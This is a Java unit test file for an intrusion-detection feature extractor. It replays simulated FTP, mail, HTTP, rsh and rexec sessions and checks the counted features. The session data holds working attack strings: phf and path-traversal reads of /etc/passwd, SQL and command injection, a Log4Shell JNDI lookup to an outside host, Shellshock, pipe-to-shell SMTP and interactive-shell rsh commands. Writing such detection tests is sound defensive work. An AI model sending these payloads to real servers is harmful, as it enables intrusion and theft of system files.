package gatewatch.features.content;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** FTP, POP3, IMAP, SMTP, HTTP, rsh and rexec sessions built in the test. */
class ServiceDialoguesTest {
    private final ContentHarness h = new ContentHarness();

    private String content() {
        return h.only().content();
    }

    @Test
    void ftpAnonymousSessionCountsGuestFileCommands() {
        h.session(21).open().server("220 ready\r\n")
                .client("USER anonymous\r\n").server("331 Guest login ok\r\n")
                .client("PASS me@x\r\n").server("230-Welcome\r\n230-\r\n230 Guest login ok\r\n")
                .client("SYST\r\n").server("215 UNIX\r\n")
                .client("CWD pub\r\n").server("250 ok\r\n")
                .client("RETR README\r\n").server("150 Opening\r\n226 done\r\n")
                .client("STOR .rhosts\r\n").server("150 Opening\r\n226 done\r\n")
                .client("QUIT\r\n").server("221 bye\r\n").close();
        // hot: CWD, RETR, STOR (guest file commands) + .rhosts by a guest = 4; file creation; access file; guest
        assertThat(content()).isEqualTo("hot=4 logged_in=1 num_file_creations=1 num_access_files=1 is_guest_login=1");
    }

    @Test
    void ftpFailedLoginsThenSuccess() {
        h.session(21).open().server("220 ready\r\n")
                .client("USER bro\r\n").server("331 Password required\r\n")
                .client("PASS 1\r\n").server("530 Login incorrect.\r\n")
                .client("USER bro\r\n").server("331 Password required\r\n")
                .client("PASS 2\r\n").server("530 Login incorrect.\r\n")
                .client("LIST\r\n").server("530 Please login with USER and PASS.\r\n")
                .client("USER root\r\n").server("331 Password required\r\n")
                .client("PASS 3\r\n").server("230 User root logged in.\r\n")
                .client("RETR /etc/passwd\r\n").server("150 ok\r\n226 ok\r\n")
                .client("SITE EXEC /bin/sh\r\n").server("200 ok\r\n").close();
        // the 530 answering LIST is not a login attempt; root: host login + hot; SITE EXEC hot
        assertThat(content()).isEqualTo("hot=2 num_failed_logins=2 logged_in=1 num_access_files=1 is_host_login=1");
    }

    @Test
    void ftpAuthTlsStopsReading() {
        h.session(21).open().server("220 ready\r\n").client("AUTH TLS\r\n").server("234 go\r\n")
                .client("USER x\r\n").server("230 ok\r\n").close();
        assertThat(content()).isEmpty();
    }

    @Test
    void pop3() {
        h.session(110).open().server("+OK POP3 ready\r\n")
                .client("USER alice\r\n").server("+OK\r\n")
                .client("PASS wrong\r\n").server("-ERR invalid password\r\n")
                .client("APOP root c4c9334bac560ecc979e58001b3e22fb\r\n").server("+OK maildrop locked\r\n")
                .client("RETR 1\r\n").server("+OK 120 octets\r\n-ERR is only text here\r\n.\r\n").close();
        assertThat(content()).isEqualTo("hot=1 num_failed_logins=1 logged_in=1 is_host_login=1");
    }

    @Test
    void pop3StlsStopsReading() {
        h.session(110).open().server("+OK\r\n").client("STLS\r\n").server("+OK begin TLS\r\n")
                .client("PASS x\r\n").server("-ERR\r\n").close();
        assertThat(content()).isEmpty();
    }

    @Test
    void imap() {
        h.session(143).open().server("* OK IMAP4rev1 ready\r\n")
                .client("a1 LOGIN guest x\r\n").server("a1 NO [AUTHENTICATIONFAILED] bad\r\n")
                .client("a2 LOGIN \"guest\" y\r\n").server("* CAPABILITY IMAP4rev1\r\na2 OK LOGIN completed\r\n")
                .client("a3 SELECT INBOX\r\n").server("a3 NO nope\r\n").close();
        assertThat(content()).isEqualTo("num_failed_logins=1 logged_in=1 is_guest_login=1");
    }

    @Test
    void imapPreauth() {
        h.session(143).open().server("* PREAUTH IMAP4rev1 logged in\r\n").close();
        assertThat(content()).isEqualTo("logged_in=1");
    }

    @Test
    void smtpSessionWithFailedAndGoodAuthAndABodyThatIsNotRead() {
        h.session(25).open().server("220 mx ESMTP\r\n")
                .client("EHLO me\r\n").server("250-mx\r\n250 AUTH LOGIN\r\n")
                .client("AUTH LOGIN\r\n").server("334 VXNlcm5hbWU6\r\n").client("Ym9i\r\n")
                .server("334 UGFzc3dvcmQ6\r\n").client("eA==\r\n").server("535 5.7.8 failed\r\n")
                .client("AUTH PLAIN AGJvYgB5\r\n").server("235 ok\r\n")
                .client("MAIL FROM:<a@b>\r\n").server("250 ok\r\n")
                .client("RCPT TO:<\"|/bin/sh\">\r\n").server("250 ok\r\n")
                .client("DATA\r\n").server("354 go\r\n")
                .client("RCPT TO:</etc/passwd>\r\ncat /etc/passwd\r\n.\r\n").server("250 queued\r\n")
                .client("QUIT\r\n").server("221 bye\r\n").close();
        assertThat(content()).isEqualTo("hot=1 num_failed_logins=1 logged_in=1");
    }

    @Test
    void smtpWithoutHelloIsNotLoggedIn() {
        h.session(25).open().server("220 mx\r\n").client("QUIT\r\n").server("221 bye\r\n").close();
        assertThat(content()).isEmpty();
    }

    @Test
    void httpPhfAttack() {
        h.session(80).open()
                .client("GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n\r\n")
                .server("HTTP/1.0 200 OK\r\n\r\nroot:x:0:0\r\n").close();
        assertThat(content()).isEqualTo("hot=1 logged_in=1 num_access_files=1");
    }

    @Test
    void httpTraversalAndBack() {
        h.session(80).open()
                .client("GET /../../etc/hosts HTTP/1.1\r\nHost: x\r\n\r\n")
                .client("GET /" + "/".repeat(200) + " HTTP/1.0\r\n\r\n")
                .server("HTTP/1.1 200 OK\r\n\r\n").close();
        assertThat(content()).isEqualTo("hot=2 logged_in=1");
    }

    @Test
    void httpInjectionsAreHotOncePerRuleTheDecodedRequestMatches() {
        h.session(80).open()
                // Percent-encoded, '+' for spaces: an always-true condition and a UNION SELECT (two rules), then a command injection.
                .client("GET /sqli/?id=1%27+and+1%3D1+union+select+user%2C+password+from+users%23&Submit=Submit HTTP/1.1\r\nHost: x\r\n\r\n")
                .client("GET /lookup.php?host=localhost%3Bid HTTP/1.1\r\nHost: x\r\n\r\n")
                .client("GET /search.php?q=order+by+date&sort=1 HTTP/1.1\r\nHost: x\r\n\r\n")
                .server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").close();
        assertThat(content()).isEqualTo("hot=3 logged_in=1");
    }

    @Test
    void httpHeadersCarryingLog4ShellOrShellshockAreHot() {
        h.session(80).open()
                .client("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/Exploit}\r\n\r\n")
                .client("GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n")
                .client("GET /app.js HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
                        + "Cookie: cb=function(){return 1}; t=${session}\r\n\r\n")
                .server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").close();
        assertThat(content()).isEqualTo("hot=2 logged_in=1");
    }

    @Test
    void httpRejectedCredentialsArePipelinedInOrder() {
        h.session(8001).open()
                .client("GET /a HTTP/1.1\r\nAuthorization: Basic YTpi\r\n\r\n")
                .client("GET /b HTTP/1.1\r\n\r\n")
                .client("GET /c HTTP/1.1\r\nAuthorization: Basic YTpj\r\n\r\n")
                .server("HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")
                .server("HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")
                .server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").close();
        assertThat(content()).isEqualTo("num_failed_logins=1 logged_in=1");
    }

    @Test
    void httpWithoutARequestIsNotLoggedIn() {
        h.session(80).open().server("HTTP/1.0 408 Request Timeout\r\n\r\n").close();
        assertThat(content()).isEmpty();
    }

    @Test
    void rshRunsOneCommand() {
        h.session(514).open().client("1022\0alice\0root\0cat /etc/passwd > /tmp/x; /bin/sh -i\0")
                .server("\0").server("root:x:0:0::/:/bin/sh\r\n").close();
        // root: host login + hot, one root command; file creation, access file, shell
        assertThat(content()).isEqualTo("hot=1 logged_in=1 num_root=1 num_file_creations=1 num_shells=1 num_access_files=1 is_host_login=1");
    }

    @Test
    void rshRefused() {
        h.session(514).open().client("0\0alice\0bob\0ls\0").server("\1Permission denied.\n").close();
        assertThat(content()).isEqualTo("num_failed_logins=1");
    }

    @Test
    void rexecNamesTheUserSecond() {
        h.session(512).open().client("0\0guest\0pw\0ls /nothing\0").server("\0")
                .server("ls: /nothing: not found\n").close();
        assertThat(content()).isEqualTo("logged_in=1 num_compromised=1 is_guest_login=1");
    }
}
